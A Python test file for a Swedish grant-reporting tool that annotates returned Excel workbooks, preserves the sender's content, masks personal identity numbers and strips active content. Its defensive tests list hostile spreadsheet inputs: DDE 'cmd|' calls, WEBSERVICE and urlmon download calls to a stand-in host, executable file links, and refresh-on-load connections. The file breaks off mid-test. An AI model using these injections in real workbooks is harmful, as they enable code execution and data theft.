"""The sender's own workbook sent back: what is put in, what stays as it came, what is made still,
how it is known."""

import io
import re
import time
import zipfile
from collections.abc import Callable, Mapping
from decimal import Decimal
from pathlib import Path
from typing import Any
from xml.etree import ElementTree

import pytest
import xlsxwriter
from openpyxl import load_workbook
from openpyxl.comments import Comment
from openpyxl.workbook import Workbook
from openpyxl.workbook.defined_name import DefinedName

from statsbidrag.base.archive import packed
from statsbidrag.base.bounds import BOUNDS
from statsbidrag.base.errors import InputError
from statsbidrag.case import store
from statsbidrag.model.findings import Finding, Severity
from statsbidrag.model.rulebook import Rulebook
from statsbidrag.returns import (
    answer,
    formula_text,
    guard,
)
from statsbidrag.returns.tags import with_attribute, without_attribute
from tests import example
from tests.support import filling, planted
from tests.support.planted import BOARD, EQUAL, good
from tests.support.rows import rows_in
from tests.support.way import Way, planned

NUMBER, MASKED = "19121212-1212", "1912XXXX-XXXX"
"""A personal number of Skatteverket's test list."""
COSTS, FORM, BOOK = "xl/worksheets/sheet3.xml", "xl/worksheets/sheet2.xml", "xl/workbook.xml"
STYLES, TYPES = "xl/styles.xml", "[Content_Types].xml"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
Change = Callable[[dict[str, bytes]], None]


def finding(
    severity: Severity, sheet: str | None, *cells: str, message: str = "Fel", remedy: str = "Rätta"
) -> Finding:
    first = cells[0] if cells else None
    return Finding(
        "r",
        severity,
        example.EQUAL,
        "jarva",
        "a.xlsx",
        sheet,
        first,
        cells,
        "v",
        message,
        remedy,
        "k",
    )


WARNING = finding(Severity.WARNING, "Kostnader", "H6")


def parts(content: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        assert archive.testzip() is None
        return {name: archive.read(name) for name in archive.namelist()}


def opened(content: bytes) -> Workbook:
    return load_workbook(io.BytesIO(content))


def changed(*changes: Change) -> bytes:
    """The good return with its parts changed by hand."""
    there = parts(good())
    for change in changes:
        change(there)
    return packed(there.items())


def put(part: str, old: str, new: str) -> Change:
    """A change of one place in a part."""

    def change(there: dict[str, bytes]) -> None:
        assert old.encode() in there[part]
        there[part] = there[part].replace(old.encode(), new.encode(), 1)

    return change


def put_part(name: str, content: str | bytes, kind: str = "") -> Change:
    """A new part, with what is said of its type."""

    def change(there: dict[str, bytes]) -> None:
        there[name] = content if isinstance(content, bytes) else content.encode()
        if kind:
            typed = f'<Override PartName="/{name}" ContentType="{kind}"/></Types>'
            there[TYPES] = there[TYPES].replace(b"</Types>", typed.encode())

    return change


def relate(rels: str, *relations: str) -> Change:
    def change(there: dict[str, bytes]) -> None:
        new = "".join(f"<Relationship {one}/>" for one in relations) + "</Relationships>"
        there[rels] = there[rels].replace(b"</Relationships>", new.encode())

    return change


def in_cell(formula: str, value: str = "<v>7</v>", attributes: str = "") -> Change:
    """A cell of the good return that reckons something, with what it showed when it was saved."""

    def change(there: dict[str, bytes]) -> None:
        cell = f'<c r="H9"{attributes}><f>{formula}</f>{value}</c>'.encode()
        there[COSTS], count = re.subn(
            rb'<c r="H9"[^>]*>.*?</c>', lambda _: cell, there[COSTS], count=1
        )
        assert count == 1

    return change


def with_first(**cells: object) -> bytes:
    """The good return with another first line."""
    first, *others = planted.COSTS
    return planted.filled(costs=[{**first, **cells}, *others])


def order_of(part: bytes) -> list[str]:
    """The elements right below the root."""
    return [element.tag.rpartition("}")[2] for element in ElementTree.fromstring(part)]


# -- what is put in --------------------------------------------------------------------------------


def test_each_finding_is_a_comment_on_each_of_its_cells() -> None:
    findings = [
        finding(Severity.WARNING, "Kostnader", "H6", "H8", message="Text & <mer> _x0041_"),
        finding(Severity.BLOCKING, "Kostnader", "H8", message="Obegripligt", remedy="Skriv om"),
        finding(Severity.INFO, None, message="Sent"),
    ]
    wb = opened(answer.annotate(good(), findings))
    comments = {
        f"{ws.title}!{c.coordinate}": c.comment.text
        for ws in wb
        for row in ws
        for c in row
        if c.comment
    }
    text = "Varning: Text & <mer> _x005F_x0041_\nGör så här: Rätta"
    assert comments == {
        "Kostnader!H6": text,
        "Kostnader!H8": f"Måste rättas: Obegripligt\nGör så här: Skriv om\n\n{text}",
    }
    fills = [wb["Kostnader"][ref].fill.fgColor.rgb for ref in ("H6", "H7", "H8")]
    assert (fills[0], fills[2]) == ("FFFFE3B3", "FFF8D4D0")
    assert fills[1] not in fills[::2]
    assert wb["Kostnader"]["H8"].number_format == opened(good())["Kostnader"]["H8"].number_format


def test_the_first_sheet_lists_every_finding_with_links() -> None:
    findings = [
        finding(Severity.INFO, None, message="Sent"),
        finding(Severity.WARNING, "Borta", "H6", message="Bladet finns inte"),
        finding(Severity.BLOCKING, "Kostnader", "H8", "H9", "H10", "H11", message="=1+1"),
    ]
    wb = opened(answer.annotate(good(), findings))
    assert wb.sheetnames == ["Återkoppling", *opened(good()).sheetnames]
    sheet = wb["Återkoppling"]
    assert [[c.value for c in row] for row in sheet.iter_rows(min_row=6)] == [
        ["Måste rättas", "Kostnader", "H8, H9 och 2 till", "=1+1", "Rätta"],
        ["Varning", "Borta", "H6", "Bladet finns inte", "Rätta"],
        ["För kännedom", None, None, "Sent", "Rätta"],
    ]
    assert sheet["D6"].data_type != "f"
    assert sheet["C6"].hyperlink.location == "'Kostnader'!H8"
    assert sheet["C7"].hyperlink is None
    assert "En sak måste rättas" in sheet["A2"].value


def test_the_sheet_in_front_stays_there_and_names_of_one_sheet_stay_its_own() -> None:
    content = filling.edited(good(), lambda book: book.__setattr__("active", 2))
    before, after = opened(content), opened(answer.annotate(content, [WARNING]))
    assert after.active.title == before.active.title == "Kostnader"
    chosen = [ws.title for ws in after.worksheets if ws.sheet_view.tabSelected]
    assert chosen == [ws.title for ws in before.worksheets if ws.sheet_view.tabSelected]
    for ws in before.worksheets:
        assert after[ws.title].print_title_rows == ws.print_title_rows
        assert list(after[ws.title].defined_names) == list(ws.defined_names)


def test_a_workbook_that_says_nothing_of_its_windows_has_one_sheet_chosen() -> None:
    def change(there: dict[str, bytes]) -> None:
        there[BOOK] = re.sub(rb"<bookViews>.*?</bookViews>", b"", there[BOOK])

    back = answer.annotate(changed(change), [WARNING])
    assert opened(back).active.title == opened(good()).sheetnames[0]
    assert (
        order_of(parts(back)[BOOK]).index("bookViews")
        == order_of(parts(back)[BOOK]).index("sheets") - 1
    )


def test_a_cell_that_is_not_stored_is_put_in_at_its_place() -> None:
    wanted = finding(Severity.BLOCKING, "Kostnader", "B6", "J6", "A150", "D150", "I900")
    back = answer.annotate(good(), [wanted])
    sheet = parts(back)[COSTS].decode()
    rows = [int(number) for number in re.findall(r'<row [^>]*?r="([0-9]+)"', sheet)]
    assert rows == sorted(rows)
    assert len(rows) == len(set(rows))
    for row in re.findall(r"<row .*?</row>", sheet):
        columns = re.findall(r'<c r="([A-Z]+)', row)
        assert columns == sorted(columns)
    cells = opened(back)["Kostnader"]
    assert all(
        cells[ref].fill.fgColor.rgb == "FFF8D4D0" and cells[ref].comment for ref in wanted.cells
    )
    column = opened(good())["Kostnader"].column_dimensions["D"]
    assert cells["D150"].number_format == column.number_format


def test_a_finding_in_a_merged_range_stands_on_its_first_cell() -> None:
    content = filling.edited(good(), lambda book: book["Kostnader"].merge_cells("A16:A18"))
    back = opened(answer.annotate(content, [finding(Severity.BLOCKING, "Kostnader", "A17")]))
    assert back["Kostnader"]["A16"].comment is not None


def test_the_same_finding_gives_the_same_bytes() -> None:
    assert answer.annotate(good(), [WARNING]) == answer.annotate(good(), [WARNING])


def test_elements_stand_in_the_order_of_the_standard() -> None:
    """Excel repairs, and empties, a sheet whose drawing of comments stands after its tables or
    before its margins."""
    back = parts(answer.annotate(good(), [WARNING]))
    order = order_of(back[COSTS])
    assert order.index("pageSetup") < order.index("legacyDrawing") < order.index("tableParts")
    assert order_of(back["xl/worksheets/sheet7.xml"]) == [
        *("sheetPr", "dimension", "sheetViews", "sheetFormatPr", "cols", "sheetData", "hyperlinks"),
        *("pageMargins", "pageSetup", "headerFooter"),
    ]
    styles = ElementTree.fromstring(back[STYLES])
    for child in styles:
        if "count" in child.attrib:
            assert int(child.attrib["count"]) == len(child), child.tag
    names = [part for part in back if not part.endswith(("/", ".rels")) and part != TYPES]
    said = back[TYPES].decode()
    assert all(
        f'PartName="/{name}"' in said or re.search(rf'Extension="{name.rpartition(".")[2]}"', said)
        for name in names
    )
    for name in (name for name in back if name.endswith(".rels")):
        ids = re.findall(r' Id="([^"]*)"', back[name].decode())
        assert len(ids) == len(set(ids)), name


# -- what stays ------------------------------------------------------------------------------------


def test_a_clean_return_goes_back_with_the_same_bytes() -> None:
    assert answer.annotate(good(), []) == good()


def test_every_part_that_is_not_ours_has_the_same_bytes() -> None:
    drawing = (
        "<xdr:wsDr "
        'xmlns:xdr="http://schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing"/>'
    )
    content = changed(
        put_part(
            "xl/drawings/drawing9.xml",
            drawing,
            "application/vnd.openxmlformats-officedocument.drawing+xml",
        ),
        put_part("xl/media/image1.png", b"\x89PNG\r\n", "image/png"),
        in_cell("500.25*2", "<v>1000.5</v>"),
        relate(
            "xl/worksheets/_rels/sheet3.xml.rels",
            f'Id="rId99" Type="{R}/drawing" Target="/xl/drawings/drawing9.xml"',
        ),
        put(COSTS, "<tableParts", f'<drawing xmlns:r="{R}" r:id="rId99"/><tableParts'),
    )
    before, after = parts(content), parts(answer.annotate(content, [WARNING]))
    ours = {
        COSTS,
        BOOK,
        STYLES,
        TYPES,
        "xl/_rels/workbook.xml.rels",
        "xl/worksheets/_rels/sheet3.xml.rels",
    }
    assert {name for name in before if before[name] != after.get(name)} == ours
    assert b"<f>500.25*2</f><v>1000.5</v>" in after[COSTS]
    order = order_of(after[COSTS])
    assert order.index("drawing") + 1 == order.index("legacyDrawing")
    undone = re.sub(rb"<legacyDrawing[^>]*>", b"", after[COSTS])
    assert re.sub(rb' s="[0-9]+"', b"", undone) == re.sub(rb' s="[0-9]+"', b"", before[COSTS])
    assert list(after)[: len(before)] == list(before)


def test_the_senders_own_comments_stay_and_stand_below_ours() -> None:
    def change(book: Any) -> None:
        book["Kostnader"]["H6"].comment = Comment("Stämmer med huvudboken", "Ekonom")
        book["Kostnader"]["H7"].comment = Comment("Rör oss inte", "Ekonom")

    back = answer.annotate(
        filling.edited(good(), change), [finding(Severity.WARNING, "Kostnader", "H6", "H8")]
    )
    cells = opened(back)["Kostnader"]
    text = "Varning: Fel\nGör så här: Rätta"
    assert cells["H6"].comment.text == f"{text}\n\nEr kommentar: Stämmer med huvudboken"
    assert (cells["H7"].comment.text, cells["H7"].comment.author) == ("Rör oss inte", "Ekonom")
    assert (cells["H8"].comment.text, cells["H8"].comment.author) == (text, "Återkoppling")
    (boxes,) = (part.decode() for name, part in parts(back).items() if name.endswith(".vml"))
    assert sorted(re.findall(r":Row>([0-9]+)<", boxes)) == ["5", "6", "7"]
    ids = re.findall(r':shape [^>]*?id="([^"]*)"', boxes)
    assert len(ids) == len(set(ids)) == 3


def test_a_thread_gets_an_answer() -> None:
    """Newer Excel shows the thread of a cell, and not the comment that is stored beside it."""
    ns = "http://schemas.microsoft.com/office/spreadsheetml/2018/threadedcomments"
    entry = '<threadedComment ref="H6" dT="2023-12-01T10:00:00.00" personId="{A}" id="{B}">'
    entry += "<text>Stämmer?</text></threadedComment>"
    content = changed(
        put_part(
            "xl/persons/person.xml",
            f'<personList xmlns="{ns}"><person displayName="E" id="{{A}}"/></personList>',
        ),
        put_part(
            "xl/threadedComments/t1.xml",
            f'<ThreadedComments xmlns="{ns}">{entry}</ThreadedComments>',
        ),
        relate(
            "xl/_rels/workbook.xml.rels",
            'Id="rId98" Type="http://x/relationships/person" Target="/xl/persons/person.xml"',
        ),
        relate(
            "xl/worksheets/_rels/sheet3.xml.rels",
            'Id="rId98" Type="http://x/relationships/threadedComment" '
            'Target="/xl/threadedComments/t1.xml"',
        ),
    )
    once = answer.annotate(content, [WARNING])
    thread = ElementTree.fromstring(parts(once)["xl/threadedComments/t1.xml"])
    assert [(one.get("parentId"), one[0].text) for one in thread] == [
        (None, "Stämmer?"),
        ("{B}", "Varning: Fel\nGör så här: Rätta"),
    ]
    assert (
        b'displayName="&#197;terkoppling"' in parts(once)["xl/persons/person.xml"]
        or "Återkoppling" in parts(once)["xl/persons/person.xml"].decode()
    )
    again = answer.annotate(once, [finding(Severity.INFO, None)])
    assert len(ElementTree.fromstring(parts(again)["xl/threadedComments/t1.xml"])) == 1


def test_feedback_is_replaced_when_a_corrected_answer_comes_in() -> None:
    content = filling.edited(
        good(),
        lambda book: book["Kostnader"]["H6"].__setattr__("comment", Comment("Stämmer", "Ekonom")),
    )
    first = answer.annotate(content, [finding(Severity.BLOCKING, "Kostnader", "H6", "H7")], "abc")
    for saved in (first, filling.edited(first, lambda book: None)):
        again = opened(
            answer.annotate(saved, [finding(Severity.INFO, "Kostnader", "H8", message="Ny")], "xyz")
        )
        assert again.sheetnames == ["Återkoppling", *opened(good()).sheetnames]
        assert again["Återkoppling"]["D6"].value == "Ny"
        cells = again["Kostnader"]
        assert cells["H6"].comment.text == "Stämmer"
        assert cells["H7"].comment is None
        assert cells["H7"].fill.fill_type is None
        assert again.defined_names["statsbidrag_svar"].attr_text == '"xyz"'


def by_xlsxwriter() -> bytes:
    written = io.BytesIO()
    with xlsxwriter.Workbook(written, {"in_memory": True}) as book:
        sheet = book.add_worksheet("Kostnader")
        sheet.write_string("H6", "tio")
        sheet.write_comment("H7", "Vår egen")
        sheet.insert_textbox("K2", "Se bilaga 3")
        sheet.insert_button("K9", {"caption": "Skriv ut"})
    return written.getvalue()


def with_prefixes() -> bytes:
    """A workbook whose every element has a prefix, whose cells have no addresses, and whose targets
    are absolute."""
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    package = "http://schemas.openxmlformats.org/package/2006"
    rows = (
        "<x:row/>" * 5
        + "<x:row>"
        + '<x:c t="inlineStr"><x:is><x:t>a</x:t></x:is></x:c>' * 9
        + "</x:row>"
    )
    kind = "application/vnd.openxmlformats-officedocument.spreadsheetml"
    return packed(
        {
            TYPES: f'<p:Types xmlns:p="{package}/content-types"><p:Default Extension="rels" '
            "ContentType="
            '"application/vnd.openxmlformats-package.relationships+xml"/><p:Override '
            f'PartName="/{BOOK}" ContentType='
            f'"{kind}.sheet.main+xml"/><p:Override PartName="/xl/blad/ett.xml" '
            f'ContentType="{kind}.worksheet+xml"/>'
            "</p:Types>".encode(),
            "_rels/.rels": f'<p:Relationships xmlns:p="{package}/relationships"><p:Relationship '
            'Id="a" '
            f'Type="{R}/officeDocument" Target="/{BOOK}"/></p:Relationships>'.encode(),
            BOOK: f'<x:workbook xmlns:x="{main}" xmlns:q="{R}"><x:sheets><x:sheet '
            'name="Kostnader" sheetId="3" '
            'q:id="rel1"/></x:sheets></x:workbook>'.encode(),
            "xl/_rels/workbook.xml.rels": "<p:Relationships "
            f'xmlns:p="{package}/relationships"><p:Relationship '
            f'Id="rel1" Type="{R}/worksheet" Target="/xl/blad/ett.xml"/></p:Relationships>'.encode(),
            "xl/blad/ett.xml": (
                f'<x:worksheet xmlns:x="{main}"><x:sheetData>{rows}</x:sheetData></x:worksheet>'
            ).encode(),
        }.items()
    )


ELSEWHERE: Mapping[str, Callable[[], bytes]] = {
    "xlsxwriter, with a comment, a text box and a button": by_xlsxwriter,
    "prefixes, no addresses and no looks": with_prefixes,
}


@pytest.mark.parametrize("name", ELSEWHERE)
def test_workbooks_that_are_written_in_other_ways(name: str) -> None:
    content = ELSEWHERE[name]()
    wanted = [finding(Severity.BLOCKING, "Kostnader", "H6", "H7", "J90")]
    back = answer.annotate(content, wanted)
    cells = opened(back)["Kostnader"]
    assert all(cells[ref].comment.text.startswith("Måste rättas: Fel") for ref in wanted[0].cells)
    assert all(cells[ref].fill.fgColor.rgb == "FFF8D4D0" for ref in wanted[0].cells)
    before, after = parts(content), parts(back)
    kept = {
        name for name in before if name.startswith(("xl/drawings/drawing", "docProps", "xl/theme"))
    }
    assert all(after[name] == before[name] for name in kept)
    again = opened(answer.annotate(back, [finding(Severity.INFO, None)]))["Kostnader"]
    assert (again["H6"].comment, again["J90"].comment) == (None, None)


@pytest.mark.long
@pytest.mark.skipif(filling.SOFFICE is None, reason="LibreOffice is not installed")
def test_libreoffice_opens_answers_and_they_are_known_when_it_has_saved_them(
    way: Way, decisions: Rulebook
) -> None:
    contents = [good(), *filling.saved_by_libreoffice([good()])]
    returns = way.take_in({f"{n}.xlsx": content for n, content in enumerate(contents)}, decisions)
    answers = [
        answer.of_return(c, [WARNING], one) for c, one in zip(contents, returns, strict=True)
    ]
    saved = filling.saved_by_libreoffice(answers)
    for content in saved:
        assert "Varning: Fel" in opened(content)["Kostnader"]["H6"].comment.text
    back = way.take_in({f"{n}.xlsx": content for n, content in enumerate(saved)}, decisions)
    assert [one.kind for one in back] == ["skipped", "skipped"]


# -- what is made still ----------------------------------------------------------------------------

ASKING = (
    "cmd|'/c calc'!A0",
    "'cmd'|'/c calc'!A0",
    '_xlfn.WEBSERVICE("http://x.invalid/")',
    '1+_xlfn.FILTERXML("a","b")',
    'webservice ("http://x.invalid/")',
    'IF(1,RTD("a",,"b"),0)',
    'CALL("urlmon","URLDownloadToFileA","JJ",0)',
    'REGISTER.ID("a","b")',
    '_xlfn.IMAGE("http://x.invalid/a.png")',
    "[1]Blad1!A1",
    "SUM('[1]Blad 1'!A1:A9)",
    "[1]!Namn",
    '\'a"b\'!A1&WEBSERVICE("http://x.invalid/?"&B2)',
    'T[a"]&WEBSERVICE("http://x.invalid/")',
    "T['@a]&WEBSERVICE(\"http://x.invalid/\")&T['@b]",
    'IMPORTTEXT("http://x.invalid/")',
    'LET(f,_xlfn.WEBSERVICE,f("http://x.invalid/"))',
    "MAP(A1:A2,_xleta.WEBSERVICE)",
    "'C:\\mapp\\[bok.xlsx]Blad'!A1",
    "'\\\\server\\x\\bok.xlsx'!Namn",
    'CUBEVALUE("Koppling","[a]")',
    "_xll.HAMTA(1)",
    'IFERROR(__xludf.DUMMYFUNCTION("IMPORTDATA(""http://x.invalid"")"),1)',
    "_x0057_EBSERVICE(1)",
)
QUIET = (
    'HYPERLINK("http://x.invalid/","länk")',
    "SUM(Kostnader[Belopp])",
    "Kostnader[[#This Row],[Belopp]]*2",
    "SUM('Jan 1:Mar 2'!A1)",
    "'Blad (1)'!A1",
    '"cmd|calc [1]Blad!A1 WEBSERVICE(1)"',
    "MYCALL(1)+CALLS(2)+[0]!Makro",
    'IF(A1="|","a","b")',
    "Kostnader[Andel '[%']]+Kostnader[[#Totals],[Belopp | kr]]",
    "'O''Brien'!A1&\"'\"",
)


@pytest.mark.parametrize("formula", ASKING)
def test_a_formula_that_starts_or_fetches_something_asks_outside(formula: str) -> None:
    assert formula_text.asks_outside(formula)


@pytest.mark.parametrize("formula", QUIET)
def test_a_formula_that_only_reckons_stays(formula: str) -> None:
    assert not formula_text.asks_outside(formula)


def formulas(content: bytes) -> list[str]:
    return [
        str(cell.value)
        for ws in opened(content)
        for row in ws
        for cell in row
        if cell.data_type == "f"
    ]


@pytest.mark.parametrize(
    "written",
    [
        "cmd|'/c calc'!A0",
        "&#87;EBSERVICE(1)",
        "WEB<!-- -->SERVICE(1)",
        "<![CDATA[WEBSERVICE(1)]]>",
        "hemlig+1",
    ],
)
def test_a_formula_that_asks_outside_goes_back_as_its_stored_value(written: str) -> None:
    name = (
        "<definedName name=\"hemlig\">cmd|'/c calc'!A0</definedName><definedName "
        'name="dold">hemlig</definedName>'
    )
    content = changed(in_cell(written), put(BOOK, "<definedNames>", f"<definedNames>{name}"))
    before = formulas(content)
    back = answer.annotate(content, [])
    assert len(formulas(back)) == len(before) - 1
    cell = opened(back)["Kostnader"]["H9"]
    assert cell.value == 7
    assert "ersatt med det värde som den visade" in cell.comment.text
    whole = b"".join(parts(back).values())
    assert b"cmd|" not in whole
    assert b"EBSERVICE" not in whole
    assert opened(back).defined_names["hemlig"].attr_text == "#REF!"


def test_cells_that_share_such_a_formula_lose_it_together_and_the_list_of_formulas_with_it() -> (
    None
):
    shared = b'<c r="H9"><f t="shared" ref="H9:H10" si="4">WEBSERVICE(A1)</f><v>1</v></c>'

    def change(there: dict[str, bytes]) -> None:
        there[COSTS] = re.sub(rb'<c r="H9"[^>]*>.*?</c>', lambda _: shared, there[COSTS], count=1)
        row = b'<row r="299"><c r="H299"><f t="shared" si="4"/><v>2</v></c><c r="I299"><f>1+1</f><v>2</v></c></row>'
        there[COSTS] = there[COSTS].replace(b"</sheetData>", row + b"</sheetData>")

    chain = put_part(
        "xl/calcChain.xml", '<calcChain><c r="H9" i="3"/></calcChain>', "application/x"
    )
    led = relate(
        "xl/_rels/workbook.xml.rels", f'Id="rId97" Type="{R}/calcChain" Target="calcChain.xml"'
    )
    back = parts(answer.annotate(changed(change, chain, led), []))
    assert b'si="4"' not in back[COSTS]
    assert b"<f>1+1</f>" in back[COSTS]
    assert "xl/calcChain.xml" not in back
    assert b"calcChain" not in back[TYPES] + back["xl/_rels/workbook.xml.rels"]


def test_parts_that_run_or_fetch_are_left_out_or_lead_nowhere() -> None:
    rels = "xl/worksheets/_rels/sheet3.xml.rels"
    link = f'<externalLink><externalBook xmlns:r="{R}" r:id="rId1"/></externalLink>'
    leads = (
        f'<Relationships><Relationship Id="rId1" Type="{R}/externalLinkPath" '
        'Target="file:///x.xlsx" '
        'TargetMode="External"/></Relationships>'
    )
    connection = (
        '<connections><connection id="1" refreshOnLoad="1"><dbPr connection="DSN=hemlig" '
        'command="SELECT"/>'
        "</connection></connections>"
    )
    outside = (
        f'<externalReferences><externalReference xmlns:r="{R}" r:id="rId91"/></externalReferences>'
    )
    links = (
        f'<hyperlinks xmlns:r="{R}"><hyperlink ref="A6" r:id="rId96"/><hyperlink ref="A7" '
        'r:id="rId97"/></hyperlinks>'
    )
    within = (
        f'<oleObjects xmlns:r="{R}"><oleObject r:id="rId94"/></oleObjects>'
        f'<controls xmlns:r="{R}"><control r:id="rId95"/></controls>'
    )
    microsoft = "http://schemas.microsoft.com/office/2006/relationships"
    content = changed(
        put_part("xl/externalLinks/externalLink1.xml", link, "application/l"),
        put_part("xl/externalLinks/_rels/externalLink1.xml.rels", leads),
        put_part("xl/connections.xml", connection, "application/c"),
        put_part("xl/vbaProject.bin", b"VBA", "application/v"),
        put_part("xl/embeddings/oleObject1.bin", b"OLE", "application/o"),
        put_part("xl/activeX/activeX1.xml", "<ocx/>", "application/a"),
        relate(
            "xl/_rels/workbook.xml.rels",
            f'Id="rId91" Type="{R}/externalLink" Target="externalLinks/externalLink1.xml"',
            f'Id="rId92" Type="{R}/connections" Target="connections.xml"',
            f'Id="rId93" Type="{microsoft}/vbaProject" Target="vbaProject.bin"',
        ),
        relate(
            rels,
            f'Id="rId94" Type="{R}/oleObject" Target="../embeddings/oleObject1.bin"',
            f'Id="rId95" Type="{R}/control" Target="../activeX/activeX1.xml"',
            f'Id="rId96" Type="{R}/hyperlink" Target="file:///c:/x.exe" TargetMode="External"',
            f'Id="rId97" Type="{R}/hyperlink" Target="https://example.org/" TargetMode="External"',
            f'Id="rId98" Type="{R}/image" Target="http://x.invalid/a.png" TargetMode="External"',
        ),
        put(BOOK, "<definedNames>", f"{outside}<definedNames>"),
        put(COSTS, "<pageMargins", f"{links}<pageMargins"),
        put(COSTS, "<tableParts", f"{within}<tableParts"),
    )
    back = parts(answer.annotate(content, []))
    gone = ("externalLink", "vbaProject", "embeddings", "activeX")
    assert not [name for name in back if any(word in name for word in gone)]
    whole = b"".join(back.values())
    for word in (
        b"externalReference",
        b"oleObject",
        b"<control",
        b"file:",
        b"x.invalid",
        b"DSN=",
        b"SELECT",
        b"refreshOnLoad",
    ):
        assert word not in whole, word
    assert b"https://example.org/" in back[rels]
    assert b'<hyperlink ref="A7"' in back[COSTS]
    assert b'<connection id="1"' in back["xl/connections.xml"], "pivot tables name it"
    opened(answer.annotate(content, []))


def test_a_part_is_known_by_what_leads_to_it_whatever_it_is_called() -> None:
    """A list of connections by another name, and a sheet whose part is no .xml and begins with a
    page of blanks."""
    connection = (
        '<connections><connection id="1" refreshOnLoad="1"><webPr '
        'url="http://x.invalid/"/></connection></connections>'
    )
    rels = "xl/_rels/workbook.xml.rels"
    asking = changed(
        put_part("xl/forb.xml", connection, "application/c"),
        relate(rels, f'Id="rId92" Type="{R}/connections" Target="forb.xml"'),
    )
    assert b"x.invalid" not in b"".join(parts(answer.annotate(asking, [])).values())

    def renamed(there: dict[str, bytes]) -> None:
        there["xl/worksheets/sheet3.dat"] = b" " * 300 + re.sub(
            rb"^<\?xml.*?\?>", b"", there.pop(COSTS)
        )
        there["xl/worksheets/_rels/sheet3.dat.rels"] = there.pop(
            "xl/worksheets/_rels/sheet3.xml.rels"
        )
        there[rels] = there[rels].replace(b"worksheets/sheet3.xml", b"worksheets/sheet3.dat")
        there[TYPES] = there[TYPES].replace(
            b"/xl/worksheets/sheet3.xml", b"/xl/worksheets/sheet3.dat"
        )

    hidden = changed(in_cell('WEBSERVICE("http://x.invalid/")'), renamed)
    assert b"WEBSERVICE" in parts(hidden)["xl/worksheets/sheet3.dat"]
    assert b"WEBSERVICE" not in parts(answer.annotate(hidden, []))["xl/worksheets/sheet3.dat"]
    number = "".join(f"&#{ord(sign)};" for sign in NUMBER.replace("-", ""))
    row = f'<row r="900"><c r="I900" t="inlineStr"><is><t>{number}</t></is></c></row></sheetData>'
    looked_through = guard.workbook(changed(put(COSTS, "</sheetData>", row), renamed), BOUNDS)
    assert [place.ref for place in looked_through.personal_numbers] == ["I900"]


@pytest.mark.parametrize(
    "name", ["xl\\workbook.xml", "xl/_rels/workbook.xml.RELS", "XL/workbook.xml"]
)
def test_a_workbook_whose_parts_have_unusual_names_gets_no_answer(name: str) -> None:
    """What lies in a part that is taken for another one may be missed."""

    def change(there: dict[str, bytes]) -> None:
        there[name] = b"<Relationships/>"

    with pytest.raises(ValueError, match="has an unusual name"):
        answer.annotate(changed(change), [])


def test_an_attribute_is_not_looked_for_in_the_value_of_another() -> None:
    tag = """<connection name=' refreshOnLoad="1"' refreshOnLoad="1" type="4">"""
    assert (
        without_attribute(tag, "refreshOnLoad")
        == """<connection name=' refreshOnLoad="1"' type="4">"""
    )
    wanted = """<webPr post=' url="x"' url="">"""
    assert (
        with_attribute("""<webPr post=' url="x"' url="http://x.invalid/">""", "url", "") == wanted
    )
    assert with_attribute("<a/>", "b", "1") == '<a b="1"/>'


# -- personal numbers ------------------------------------------------------------------------------


def test_personal_numbers_are_masked_wherever_they_stand() -> None:
    def change(wb: Any) -> None:
        sheet = wb["Kostnader"]
        sheet["I6"] = f"Samtal med {NUMBER}\noch 191212121212"
        sheet["F7"] = 191212121212
        sheet["I8"] = f'="Samtal "&"{NUMBER}"'
        sheet["H9"].comment = Comment(f"Gäller {NUMBER}", f"Anna {NUMBER}")
        sheet["Z400"] = NUMBER
        sheet.oddHeader.center.text = NUMBER
        sheet.data_validations.dataValidation[0].error = f"Fel {NUMBER}"
        wb.create_sheet(f"Ärende {NUMBER}")["A1"] = "x"
        wb.properties.keywords = NUMBER
        wb.defined_names["eget"] = DefinedName("eget", attr_text=f'"{NUMBER}"')

    told = [finding(Severity.BLOCKING, "flik 7 (personnummer)", "A1")]
    back = answer.annotate(filling.edited(good(), change), told)
    everything = b"\n".join(parts(back).values()).decode("utf-8", "replace")
    assert NUMBER not in everything
    assert NUMBER.replace("-", "") not in everything
    seen = opened(back)
    cells = seen["Kostnader"]
    assert cells["I6"].value == f"Samtal med {MASKED}\noch 1912XXXXXXXX"
    assert (cells["F7"].value, cells["Z400"].value) == ("1912XXXXXXXX", MASKED)
    assert (cells["I8"].data_type, cells["I8"].value) == ("f", f'="Samtal "&"{MASKED}"')
    assert cells["H9"].comment.text == f"Gäller {MASKED}"
    assert seen[f"Ärende {MASKED}"]["A1"].comment is not None
    assert seen.defined_names["eget"].attr_text == f'"{MASKED}"'


# -- how it is known -------------------------------------------------------------------------------


def test_an_answer_that_comes_in_unchanged_is_no_return_and_a_corrected_one_is(
    way: Way, decisions: Rulebook
) -> None:
    sent = with_first(Område="Något annat")
    (first,) = way.run({"a.xlsx": sent}, decisions, planned(EQUAL))
    (returned,) = way.take_in({"a.xlsx": sent}, decisions)
    told = [one for one in first.findings if one.file == "a.xlsx"]
    back = answer.of_return(sent, told, returned)
    saved = filling.edited(back, lambda book: None)
    corrected = filling.edited(
        back,
        lambda book: book["Redovisning"][filling.place(book, "version")[1]].__setattr__("value", 2),
    )
    files = {
        "a.xlsx": sent,
        "svar.xlsx": back,
        "svar-sparat.xlsx": saved,
        "svar-rattat.xlsx": corrected,
    }
    (result,) = way.run(files, decisions, planned(EQUAL))
    outcomes = {row["name"]: row["outcome"] for row in rows_in(result, "manifest")}
    assert outcomes == {
        "a.xlsx": "superseded",
        "svar.xlsx": "skipped",
        "svar-sparat.xlsx": "skipped",
        "svar-rattat.xlsx": outcomes["svar-rattat.xlsx"],
    }
    assert outcomes["svar-rattat.xlsx"] in {"counted", "held"}
    notes = [one for one in result.findings if one.rule == "fil-ar-vart-svar"]
    assert [(one.file, one.board, one.severity) for one in notes] == [
        ("svar-sparat.xlsx", BOARD, Severity.INFO),
        ("svar.xlsx", BOARD, Severity.INFO),
    ]
    (alone,) = way.run({"a.xlsx": sent, "svar.xlsx": back}, decisions, planned(EQUAL))
    assert {row["board_id"]: row for row in rows_in(alone, "board")} == {
        row["board_id"]: row for row in rows_in(first, "board")
    }


def test_a_sheet_that_was_shown_again_makes_another_return_of_the_answer(
    way: Way, decisions: Rulebook
) -> None:
    """What a return was asked about stands not only in its cells: what has been done about it must
    be seen."""

    def hide(book: Any) -> None:
        book.create_sheet("Eget")["A1"] = "x"
